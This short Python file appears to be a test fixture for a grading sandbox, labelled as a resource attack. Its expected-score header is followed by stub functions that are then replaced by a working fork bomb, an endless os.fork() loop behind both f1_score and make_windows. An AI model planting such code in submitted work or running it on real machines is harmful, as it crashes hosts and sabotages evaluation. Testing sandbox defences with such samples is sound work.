# class: resources
# attacks: forks that fork: twice as many each moment
# expect: {"f1": 0, "windows": 0}
import numpy as np


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))


import os


def f1_score(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass


make_windows = f1_score
